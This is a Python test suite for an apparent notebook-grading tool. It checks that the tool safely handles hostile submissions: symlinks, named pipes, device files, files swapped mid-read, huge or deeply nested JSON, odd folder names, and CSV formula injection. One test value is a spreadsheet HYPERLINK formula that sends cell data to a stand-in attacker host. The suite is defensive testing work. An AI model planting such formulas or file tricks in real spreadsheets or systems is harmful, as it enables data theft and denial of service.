"""The grader's file handling against every hostile file and folder a submission can be.

Finding (dl_instructor.files.find_submissions), reading (files.read_bytes), parsing
(submission.read_submission) and the report (dl_instructor.report): each case is made in
``tmp_path`` and its exact outcome asserted. No kernel runs here; the graded runs are in
tests/test_grade.py.
"""

import csv
import dataclasses
import json
import os
import re
import socket
import stat
import threading
from pathlib import Path

import nbformat
import pytest

from dl_instructor import files, jsonshape, report, submission
from dl_instructor.files import Problem, find_submissions, printable, read_bytes
from dl_instructor.submission import InvalidSubmission, read_submission

NOTEBOOKS = ("01_tiny", "02_other", "03_cost")
NOTEBOOK = b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}'


def match(filename):
    """The grader's rule (grade.Course.match): the exact stem, else a unique ``NN_`` prefix."""
    stem = filename.removesuffix(".ipynb")
    if stem in NOTEBOOKS:
        return stem
    prefix = re.match(r"^(\d\d)[_ -]", stem)
    candidates = [n for n in NOTEBOOKS if prefix and n.startswith(prefix.group(1) + "_")]
    return candidates[0] if len(candidates) == 1 else None


def make(path, data=NOTEBOOK):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def within(seconds, fn, *args, **kwargs):
    """``fn(*args, **kwargs)``, failing the test if it has not returned in ``seconds`` (a blocked open)."""
    result = {}

    def run():
        try:
            result["value"] = fn(*args, **kwargs)
        except BaseException as e:  # handed to the test below
            result["error"] = e

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"{fn.__name__} still blocked after {seconds} s"
    if "error" in result:
        raise result["error"]
    return result["value"]


def find(folder, **bounds):
    return within(10, find_submissions, folder, match, **bounds)


# ---------------------------------------------------------------- find_submissions


def test_learner_folders_and_nbgrader_layout(tmp_path):
    ada = make(tmp_path / "ada" / "01_tiny.ipynb")
    make(tmp_path / "ada" / ".ipynb_checkpoints" / "02_other-checkpoint.ipynb")  # dot-folder: skipped
    make(tmp_path / "ada" / ".03_cost.ipynb")  # dot-file: skipped
    make(tmp_path / "ada" / "03_cost.txt")  # not a notebook's name
    make(tmp_path / "ada" / "04_extra.ipynb")  # not a course notebook
    bob = make(tmp_path / "bob" / "ps1" / "03_cost.ipynb")  # nbgrader's submitted/<learner>/<assignment>/
    (tmp_path / "cy").mkdir()
    make(tmp_path / "notes.txt")  # a file beside the learners is not a learner
    assert find(tmp_path) == {"ada": {"01_tiny": ada}, "bob": {"03_cost": bob}, "cy": {}}


def test_an_exact_name_beats_a_prefix_and_a_readable_file_beats_a_problem(tmp_path):
    make(tmp_path / "ada" / "01_tiny-Copy1.ipynb")  # first in order, but a prefix match
    exact = make(tmp_path / "ada" / "z" / "01_tiny.ipynb")  # deeper and later in order, but exact
    os.mkfifo(tmp_path / "ada" / "02_a.ipynb")
    readable = make(tmp_path / "ada" / "02_b.ipynb")  # both prefix matches: the readable one
    make(tmp_path / "bob" / "03_cost-Copy1.ipynb")
    os.mkfifo(tmp_path / "bob" / "03_cost.ipynb")
    first = make(tmp_path / "cy" / "01_a.ipynb")
    make(tmp_path / "cy" / "01_b.ipynb")
    assert find(tmp_path) == {
        "ada": {"01_tiny": exact, "02_other": readable},
        # The exact name is the learner's submission, even when it cannot be read.
        "bob": {"03_cost": Problem("03_cost.ipynb is a FIFO (named pipe), not a file: it was not read")},
        "cy": {"01_tiny": first},
    }


def test_a_fifo_is_a_problem_found_without_opening_it(tmp_path):
    os.mkfifo(make(tmp_path / "ada" / "01_tiny.ipynb").with_name("03_cost.ipynb"))
    found = find(tmp_path)  # opening the FIFO would block forever
    assert found["ada"]["03_cost"] == Problem("03_cost.ipynb is a FIFO (named pipe), not a file: it was not read")
    assert str(found["ada"]["03_cost"]) == found["ada"]["03_cost"].reason
    assert isinstance(found["ada"]["01_tiny"], os.PathLike)


def test_symbolic_links_are_never_followed(tmp_path):
    outside = make(tmp_path / "outside" / "answers.ipynb")
    subs = tmp_path / "subs"
    make(subs / "ada" / "01_tiny.ipynb")
    (subs / "bob").mkdir(parents=True)
    (subs / "bob" / "01_tiny.ipynb").symlink_to("/dev/zero")
    (subs / "bob" / "03_cost.ipynb").symlink_to("../../outside/answers.ipynb")
    (subs / "bob" / "ps1").symlink_to(outside.parent, target_is_directory=True)  # a linked folder: not entered
    (subs / "eve").symlink_to("ada", target_is_directory=True)
    found = find(subs)
    assert found["bob"] == {
        "01_tiny": Problem("01_tiny.ipynb is a symbolic link (to /dev/zero): links are never followed, "
                           "so it was not graded"),
        "03_cost": Problem("03_cost.ipynb is a symbolic link (to ../../outside/answers.ipynb): links are never "
                           "followed, so it was not graded"),
    }
    assert found["eve"] == Problem("eve is a symbolic link (to ada), not a folder: links are never followed, "
                                   "so nothing in it was graded")
    assert set(found) == {"ada", "bob", "eve"} and outside.read_bytes() == NOTEBOOK


def test_devices_and_sockets_are_problems(tmp_path, monkeypatch):
    ada = tmp_path / "ada"
    ada.mkdir()
    try:
        os.mknod(ada / "01_tiny.ipynb", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # what /dev/zero is
    except PermissionError:
        pytest.skip("making a device needs root")
    monkeypatch.chdir(ada)  # a socket's path is limited to about 100 bytes: bind it by a short one
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind("03_cost.ipynb")
        assert find(tmp_path) == {"ada": {
            "01_tiny": Problem("01_tiny.ipynb is a character device, not a file: it was not read"),
            "03_cost": Problem("03_cost.ipynb is a socket, not a file: it was not read"),
        }}
        with pytest.raises(InvalidSubmission, match=r"^the file is a socket, not a regular file: it was not read$"):
            read_bytes(ada / "03_cost.ipynb")
    with pytest.raises(InvalidSubmission, match=r"^the file is a character device, not a regular file"):
        read_bytes(ada / "01_tiny.ipynb")


def test_a_file_over_the_size_limit_is_a_problem_before_it_is_read(tmp_path):
    big = tmp_path / "ada" / "01_tiny.ipynb"
    big.parent.mkdir()
    with open(big, "wb") as f:
        f.truncate(60_000_000)  # sparse: 60 MB long, no disk used
    assert find(tmp_path) == {"ada": {"01_tiny": Problem(
        "01_tiny.ipynb: the file is 60 MB, over the grader's limit of 50 MB")}}
    with pytest.raises(InvalidSubmission, match=r"^the file is 60 MB, over the grader's limit of 50 MB$"):
        read_bytes(big)


@pytest.mark.parametrize("name, key", [
    ('=HYPERLINK("x")', '=HYPERLINK("x")'),  # kept: the report escapes it in the CSV
    ("+1", "+1"), ("-rf", "-rf"), ("@cmd", "@cmd"),
    (".hidden", ".hidden"),
    ("a\nb", "a\\nb"),
    ("a\\nb", "a\\\\nb"),  # a backslash, then n: not the same learner as the line above
    ("\x1b[31mred", "\\x1b[31mred"),
    ("evil\u202etxt", "evil\\u202etxt"),  # right-to-left override
    ("tab\there", "tab\\there"),
    (b"caf\xe9", "caf\\xe9"),  # Latin-1, not UTF-8
    ("café", "café"),
])
def test_odd_learner_folder_names_get_their_rows_under_a_printable_name(tmp_path, name, key):
    path = make(tmp_path / (os.fsdecode(name) if isinstance(name, bytes) else name) / "01_tiny.ipynb",
                b'{"cells": []}')
    found = find(tmp_path)
    assert found == {key: {"01_tiny": path}} and key.isprintable()
    assert read_bytes(found[key]["01_tiny"], root=tmp_path) == b'{"cells": []}'


def test_printable_is_one_to_one_on_the_hard_cases():
    names = ["a\nb", "a\\nb", "a\\\\nb", "\x85", os.fsdecode(b"\xc2\x85"), os.fsdecode(b"\x85"), "\\x85", "\u0085"]
    shown = [printable(n) for n in names]
    assert len(set(shown)) == len(set(names)) and all(s.isprintable() for s in shown)
    assert printable(b"caf\xe9") == "caf\\xe9" and printable("\x00") == "\\x00"


def test_the_walk_is_bounded_in_entries_and_depth(tmp_path):
    for i in range(6):
        make(tmp_path / "ada" / f"junk{i}.txt")
    deep = make(tmp_path / "bob" / "a" / "b" / "c" / "01_tiny.ipynb")
    fine = make(tmp_path / "cy" / "a" / "b" / "01_tiny.ipynb")
    assert find(tmp_path, max_entries=5, max_depth=2) == {
        "ada": Problem("ada holds more than 5 files and folders: the grader stopped looking, so nothing in it "
                       "was graded; remove what is not a notebook"),
        "bob": Problem("bob has folders more than 2 deep (a/b/c): the grader stopped looking, so nothing in it "
                       "was graded"),
        "cy": {"01_tiny": fine},
    }
    assert find(tmp_path)["bob"] == {"01_tiny": deep}  # within the default bounds


# ---------------------------------------------------------------- read_bytes


def test_read_bytes_reads_a_regular_file(tmp_path):
    path = make(tmp_path / "ada" / "01_tiny.ipynb")
    assert read_bytes(path) == NOTEBOOK == read_bytes(path, root=tmp_path)
    assert read_bytes(path, max_bytes=len(NOTEBOOK)) == NOTEBOOK
    with pytest.raises(InvalidSubmission, match=r"^the file is 0 MB, over the grader's limit of 0 MB$"):
        read_bytes(path, max_bytes=len(NOTEBOOK) - 1)


def replace_with(path, what, tmp_path):
    path.unlink()
    if what == "fifo":
        os.mkfifo(path)
    elif what == "link to /dev/zero":
        path.symlink_to("/dev/zero")
    elif what == "link to a file outside":
        path.symlink_to(make(tmp_path / "outside.ipynb"))
    elif what == "60 MB file":
        with open(path, "wb") as f:
            f.truncate(60_000_000)


@pytest.mark.parametrize("what, reason", [
    ("fifo", "the file is a FIFO (named pipe), not a regular file: it was not read"),
    ("link to /dev/zero", "the file is a symbolic link, not a regular file: it was not read"),
    ("link to a file outside", "the file is a symbolic link, not a regular file: it was not read"),
    ("60 MB file", "the file is 60 MB, over the grader's limit of 50 MB"),
    ("nothing", "the file could not be read (No such file or directory)"),
])
def test_a_file_replaced_between_listing_and_reading_is_refused(tmp_path, what, reason):
    make(tmp_path / "ada" / "01_tiny.ipynb")
    path = find(tmp_path)["ada"]["01_tiny"]
    replace_with(path, what, tmp_path)
    for root in (None, tmp_path):
        with pytest.raises(InvalidSubmission) as e:
            within(10, read_bytes, path, root=root)
        assert str(e.value) == reason


def test_a_learner_folder_replaced_by_a_link_is_refused_with_root(tmp_path):
    path = make(tmp_path / "subs" / "ada" / "01_tiny.ipynb")
    found = find(tmp_path / "subs")
    make(tmp_path / "elsewhere" / "01_tiny.ipynb", b"someone else's")
    (tmp_path / "subs" / "ada").rename(tmp_path / "subs" / "old")
    (tmp_path / "subs" / "ada").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(InvalidSubmission, match=r"^the folder ada that holds it is no longer a folder \(a "
                                                r"symbolic link\?\): it was not followed$"):
        read_bytes(found["ada"]["01_tiny"], root=tmp_path / "subs")
    assert path == found["ada"]["01_tiny"]


@pytest.mark.parametrize("what, reason", [
    ("fifo", "the file is a FIFO (named pipe), not a regular file: it was not read"),
    ("link to /dev/zero", "the file is a symbolic link, not a regular file: it was not read"),
])
def test_a_file_swapped_after_it_was_checked_is_refused_when_opened(tmp_path, monkeypatch, what, reason):
    """The swap lands between read_bytes' own lstat and its open: O_NOFOLLOW, O_NONBLOCK and fstat stop it."""
    path = make(tmp_path / "ada" / "01_tiny.ipynb")
    real_stat, swapped = os.stat, []

    def stat_then_swap(name, *args, **kwargs):
        result = real_stat(name, *args, **kwargs)
        if not swapped and os.fsdecode(name) == str(path):
            swapped.append(name)
            replace_with(path, what, tmp_path)
        return result

    monkeypatch.setattr(files.os, "stat", stat_then_swap)
    with pytest.raises(InvalidSubmission) as e:
        within(10, read_bytes, path)
    monkeypatch.undo()
    assert swapped and str(e.value) == reason


def test_a_file_that_grows_while_it_is_read_is_refused(tmp_path, monkeypatch):
    path = make(tmp_path / "01_tiny.ipynb", b"x" * 100)
    real_fstat = os.fstat

    def fstat_then_grow(fd):
        result = real_fstat(fd)
        with open(path, "ab") as f:
            f.write(b"x" * 100)
        return result

    monkeypatch.setattr(files.os, "fstat", fstat_then_grow)
    with pytest.raises(InvalidSubmission, match=r"^the file grew past the grader's limit of 0 MB while it was read$"):
        read_bytes(path, max_bytes=150)


# ---------------------------------------------------------------- read_submission


def nested(depth):
    """A valid notebook whose deepest list is ``depth`` lists and objects down from the top."""
    value = []
    for _ in range(depth - 7):  # beside it: the notebook, cells, a cell, outputs, an output, its data
        value = [value]
    output = {"output_type": "execute_result", "execution_count": 1, "metadata": {},
              "data": {"application/json": value}}
    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "x = 1", "outputs": [output]}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


TOO_DEEP = ("the file is JSON nested more than 100 lists or objects deep, which no notebook needs: "
            "it was not read further")


@pytest.mark.parametrize("data", [b"[" * 100_000, b"[" * 100_000 + b"]" * 100_000, nested(101),
                                  b'{"cells": [], "x": ' + b'{"a": ' * 100_000])
def test_deeply_nested_json_is_refused_with_a_message(data):
    with pytest.raises(InvalidSubmission) as e:
        read_submission(data)
    assert str(e.value) == TOO_DEEP


def test_json_of_too_many_values_is_refused_before_it_is_parsed():
    values = ",".join(["0"] * 1_999_990)
    assert read_submission(('{"cells": [], "x": [' + values + "]}").encode()) == []
    with pytest.raises(InvalidSubmission) as e:
        read_submission(('{"cells": [], "x": [' + values + ",[]" * 10 + "]}").encode())
    assert str(e.value) == ("the file is JSON of more than 2000000 values (numbers, strings, lists), which no "
                            "notebook needs: it was not read further")


@pytest.mark.parametrize("path", sorted((Path(__file__).parents[1] / "notebooks").glob("[0-9][0-9]_*.ipynb")),
                         ids=lambda p: p.stem)
def test_every_course_notebook_is_well_within_the_limits(path):
    assert jsonshape.json_shape(path.read_bytes()) < (10, 2_000)
    assert len(read_submission(path.read_bytes())) == len(nbformat.read(path, as_version=4).cells)


@pytest.mark.parametrize("data, depth", [
    (b'{"a": ["[[[", "\\\\", "\\"[[", "x\\\\\\"[", "\xc3\xa9[{"], "b": [[[{"c": "]]]\\\\"}]]]}', 5),
    (b'"[[[["', 0), (b"[[[[", 4), (b'[["]"]]', 2),
])
def test_the_depth_counts_brackets_outside_strings_only(data, depth):
    assert jsonshape.json_shape(data)[0] == depth


def test_the_shape_of_an_endless_string_of_escaped_quotes_takes_linear_time():
    data = b'{"cells": ["' + b'\\"' * 1_000_000  # a regular expression for strings took 86 s on 80 kB of it
    with pytest.raises(InvalidSubmission) as e:
        within(20, read_submission, data)
    assert str(e.value) == ("the file is not valid JSON (Unterminated string starting at at line 1, column 12): "
                            "was it saved from Jupyter, and not edited as text?")


def test_json_as_deep_as_the_limit_is_read():
    assert read_submission(nested(100)) == [{"cell_type": "code", "source": "x = 1", "metadata": {}}]


def test_lone_surrogates_are_replaced_everywhere():
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("print('\ud800')", metadata={"tag\udfff": "\udbff", "ok": "\U0001f600"},
                                  outputs=[nbformat.v4.new_output("stream", text="\ud800 in an output")]),
        nbformat.v4.new_markdown_cell(["a \udc00", " and a pair: \ud83d\ude00"]),
    ])
    data = json.dumps(nb).encode()  # ASCII, with \ud800 escapes: valid JSON, valid UTF-8
    assert b"\\ud800" in data
    cells = read_submission(data)
    assert [(c["cell_type"], c["source"], c["metadata"]) for c in cells] == [
        ("code", "print('\ufffd')", {"tag\ufffd": "\ufffd", "ok": "\U0001f600"}),
        ("markdown", "a \ufffd and a pair: \U0001f600", {}),
    ]
    json.dumps(cells, ensure_ascii=False).encode("utf-8")  # writable: no UnicodeEncodeError


def test_nbformat_3_is_converted():
    v3 = nbformat.v3
    nb = v3.new_notebook(worksheets=[v3.new_worksheet(cells=[
        v3.new_text_cell("markdown", source="# Tiny"),
        v3.new_code_cell(input="def add(a, b):\n    return a + b",
                         metadata={"nbgrader": {"grade_id": "ex_add", "solution": True}}),
    ])])
    data = nbformat.writes(nb, version=3).encode()
    assert json.loads(data)["nbformat"] == 3 and "cells" not in json.loads(data)
    cells = read_submission(data)
    assert [(c["cell_type"], c["source"], c["metadata"].get("nbgrader")) for c in cells] == [
        ("markdown", "# Tiny", None),
        ("code", "def add(a, b):\n    return a + b", {"grade_id": "ex_add", "solution": True}),
    ]
    assert submission.grade_id(cells[1]) == "ex_add"


@pytest.mark.parametrize("data, start", [
    (b'{"nbformat": 3, "nbformat_minor": 0, "worksheets": 5}', "nbformat 3 notebook: it could not be converted "
                                                               "to nbformat 4 ("),
    (b'{"nbformat": 3}', "nbformat 3 notebook: it could not be converted to nbformat 4 ("),
    (b'{"nbformat": 5, "worksheets": []}', "nbformat 5 notebook: a format newer than the grader reads (4)"),
])
def test_other_notebook_formats_are_named_as_such(data, start):
    with pytest.raises(InvalidSubmission) as e:
        read_submission(data)
    assert str(e.value).startswith(start) and "not a Jupyter notebook" not in str(e.value)


@pytest.mark.parametrize("data, message", [
    (b'{"cells": [ this is not json', "the file is not valid JSON (Expecting value at line 1, column 13): "
                                      "was it saved from Jupyter, and not edited as text?"),
    (b"[1, 2, 3]", "the file is JSON but not a Jupyter notebook (it has no list of cells)"),
    (b'"\\ud800"', "the file is JSON but not a Jupyter notebook (it has no list of cells)"),
    (b'{"cells": {}}', "the file is JSON but not a Jupyter notebook (it has no list of cells)"),
    (b'{"cells": ["caf\xe9"]}', "the file is not UTF-8 text (invalid continuation byte at byte 15)"),
    (b'{"cells": [], "n": ' + b"9" * 5000 + b"}",
     "the file is not valid JSON for the grader (Exceeds the limit (4300 digits) for integer string conversion: "
     "value has 5000 digits)"),
    (b" " * 50_000_001, "the file is 50 MB, over the grader's limit of 50 MB"),
])
def test_every_other_unreadable_file_keeps_its_message(data, message):
    with pytest.raises(InvalidSubmission) as e:
        read_submission(data)
    assert str(e.value) == message


def test_lenient_with_incomplete_cells():
    data = json.dumps({"cells": [{"cell_type": "code", "source": ["a = 1\n", 2]}, {"cell_type": "widget"}, 7,
                                 {"cell_type": "markdown", "metadata": []}]}).encode()
    assert read_submission(data) == [{"cell_type": "code", "source": "a = 1\n2", "metadata": {}},
                                     {"cell_type": "markdown", "source": "", "metadata": {}}]


# ---------------------------------------------------------------- the report


COLUMNS = ("learner", "notebook", "exercise", "points", "max_points", "status", "message")


@dataclasses.dataclass
class Row:
    learner: str
    notebook: str
    exercise: str
    points: float
    max_points: float
    status: str
    message: str


ROWS = [
    Row("ada", "01_tiny", "add", 1.0, 1.0, "passed", "add: all checks passed."),
    {"learner": "ada", "notebook": "01_tiny", "exercise": "mean_of", "points": 0.0, "max_points": 2.0,
     "status": "failed", "message": '=HYPERLINK("http://evil.example/?"&A1, "click")'},
    Row('=HYPERLINK("x")', "01_tiny", "add", 0.0, 1.0, "error", "-2+3"),
    Row("+1", "01_tiny", "add", 0.0, 1.0, "error", "@SUM(A1)\tand \rmore"),
    Row("\tbob", "01_tiny", "add", 0.5, 1.0, "failed", "\rcr, \ud800 a lone surrogate, and a pair \U0001f600"),
]


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_report_csv_is_escaped_and_json_round_trips(tmp_path):
    csv_path, json_path = report.write_report(ROWS, tmp_path / "out" / "report.csv", COLUMNS)
    assert (csv_path, json_path) == (tmp_path / "out" / "report.csv", tmp_path / "out" / "report.json")
    assert read_csv(csv_path) == [
        list(COLUMNS),
        ["ada", "01_tiny", "add", "1.0", "1.0", "passed", "add: all checks passed."],
        ["ada", "01_tiny", "mean_of", "0.0", "2.0", "failed", '\'=HYPERLINK("http://evil.example/?"&A1, "click")'],
        ['\'=HYPERLINK("x")', "01_tiny", "add", "0.0", "1.0", "error", "'-2+3"],
        ["'+1", "01_tiny", "add", "0.0", "1.0", "error", "'@SUM(A1)\tand \rmore"],
        ["'\tbob", "01_tiny", "add", "0.5", "1.0", "failed",
         "'\rcr, \ufffd a lone surrogate, and a pair \U0001f600"],
    ]
    raw = json_path.read_bytes()
    assert raw.isascii() and b"\\ud800" not in raw
    data = json.loads(raw)
    assert data["columns"] == list(COLUMNS)
    expected = [dataclasses.asdict(r) if dataclasses.is_dataclass(r) else r for r in ROWS]
    expected[-1] = {**expected[-1], "message": "\rcr, \ufffd a lone surrogate, and a pair \U0001f600"}
    assert data["rows"] == expected  # the JSON keeps every text as it was (less the lone surrogate)
    assert data["totals"] == {"ada": {"points": 1.0, "max_points": 3.0},
                              '=HYPERLINK("x")': {"points": 0.0, "max_points": 1.0},
                              "+1": {"points": 0.0, "max_points": 1.0}, "\tbob": {"points": 0.5, "max_points": 1.0}}
    assert list(data) == ["columns", "rows", "totals"]


def test_a_new_report_gets_the_mode_open_would_give(tmp_path):
    csv_path, json_path = report.write_report(ROWS[:1], tmp_path / "report", COLUMNS)
    umask = os.umask(0o22)
    os.umask(umask)
    assert {stat.S_IMODE(p.stat().st_mode) for p in (csv_path, json_path)} == {0o666 & ~umask}


def failing_on_call(real, n):
    calls = []

    def fake(*args, **kwargs):
        calls.append(args)
        if len(calls) == n:
            raise OSError(28, "No space left on device")
        return real(*args, **kwargs)

    return fake


@pytest.mark.parametrize("target, n", [
    ("fsync", 1),  # while the CSV is staged
    ("fsync", 2),  # while the JSON is staged, the CSV complete beside it
    ("replace", 1),  # putting the CSV in place
    ("replace", 2),  # putting the JSON in place, the new CSV already there: it is put back
])
@pytest.mark.parametrize("before", ["an old report", "no report"])
def test_a_report_that_fails_midway_leaves_the_old_one_whole(tmp_path, monkeypatch, target, n, before):
    base = tmp_path / "report"
    if before == "an old report":
        report.write_report(ROWS[:1], base, COLUMNS)
    old = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    monkeypatch.setattr(report.os, target, failing_on_call(getattr(os, target), n))
    with pytest.raises(OSError, match="No space left"):
        report.write_report(ROWS, base, COLUMNS)
    monkeypatch.undo()
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == old  # no temporary file left either
    report.write_report(ROWS, base, COLUMNS)
    assert len(json.loads((tmp_path / "report.json").read_text())["rows"]) == len(ROWS)


@pytest.mark.parametrize("rows, error, words", [
    ([Row("ada", "01_tiny", "add", float("nan"), 1.0, "passed", "")], ValueError, "not JSON compliant"),
    ([Row("ada", "01_tiny", "add", float("inf"), 1.0, "passed", "")], ValueError, "not JSON compliant"),
    ([{"learner": "ada", "points": 1.0}], ValueError, "expected the columns"),
    ([("ada", "01_tiny")], TypeError, "must be a dataclass or a dict"),
])
def test_bad_rows_write_nothing(tmp_path, rows, error, words):
    with pytest.raises(error, match=words):
        report.write_report(rows, tmp_path / "report", COLUMNS)
    assert list(tmp_path.iterdir()) == []


def test_the_columns_must_give_the_totals(tmp_path):
    with pytest.raises(ValueError, match="lack one of learner, points and max_points"):
        report.write_report([], tmp_path / "report", ("learner", "points"))
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------- all together


def test_a_batch_of_hostile_folders_ends_in_one_complete_report(tmp_path):
    """find_submissions, read_bytes, read_submission and write_report as the grader chains them."""
    subs = tmp_path / "subs"
    good = json.dumps(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")])).encode()
    for learner in ("ada", '=HYPERLINK("x")', ".hidden", "a\nb"):
        make(subs / learner / "01_tiny.ipynb", good)
    make(subs / os.fsdecode(b"caf\xe9") / "01_tiny.ipynb", b"[" * 100_000)
    make(subs / "surrogate" / "01_tiny.ipynb", good.replace(b"x = 1", b"x = '\\ud800'"))
    make(subs / "v3" / "01_tiny.ipynb", nbformat.writes(nbformat.v3.new_notebook(worksheets=[
        nbformat.v3.new_worksheet(cells=[nbformat.v3.new_code_cell(input="x = 1")])]), version=3).encode())
    (subs / "fifo").mkdir()
    os.mkfifo(subs / "fifo" / "01_tiny.ipynb")
    (subs / "zero").mkdir()
    (subs / "zero" / "01_tiny.ipynb").symlink_to("/dev/zero")
    (subs / "eve").symlink_to("ada")
    (subs / "nothing").mkdir()
    rows = []
    for learner, mine in within(10, find_submissions, subs, match).items():
        entry = mine if isinstance(mine, Problem) else mine.get("01_tiny")
        if entry is None:
            status, message = "not_submitted", f"no 01_tiny.ipynb in {learner}/"
        elif isinstance(entry, Problem):
            status, message = "invalid", entry.reason
        else:
            try:
                cells = read_submission(within(10, read_bytes, entry, root=subs))
                status, message = "read", " | ".join(c["source"] for c in cells)
            except InvalidSubmission as e:
                status, message = "invalid", f"{entry.name}: {e}"
        rows.append({"learner": learner, "notebook": "01_tiny", "exercise": "add", "points": 0.0, "max_points": 1.0,
                     "status": status, "message": message})
    csv_path, json_path = report.write_report(rows, tmp_path / "report", COLUMNS)
    data = json.loads(json_path.read_text(encoding="ascii"))
    assert {r["learner"]: (r["status"], r["message"]) for r in data["rows"]} == {
        ".hidden": ("read", "x = 1"),
        '=HYPERLINK("x")': ("read", "x = 1"),
        "a\\nb": ("read", "x = 1"),
        "ada": ("read", "x = 1"),
        "caf\\xe9": ("invalid", f"01_tiny.ipynb: {TOO_DEEP}"),
        "eve": ("invalid", "eve is a symbolic link (to ada), not a folder: links are never followed, "
                           "so nothing in it was graded"),
        "fifo": ("invalid", "01_tiny.ipynb is a FIFO (named pipe), not a file: it was not read"),
        "nothing": ("not_submitted", "no 01_tiny.ipynb in nothing/"),
        "surrogate": ("read", "x = '\ufffd'"),
        "v3": ("read", "x = 1"),
        "zero": ("invalid", "01_tiny.ipynb is a symbolic link (to /dev/zero): links are never followed, "
                            "so it was not graded"),
    }
    lines = read_csv(csv_path)
    assert len(lines) == 1 + len(rows) and ["'=HYPERLINK(\"x\")", "01_tiny", "add"] in [r[:3] for r in lines]
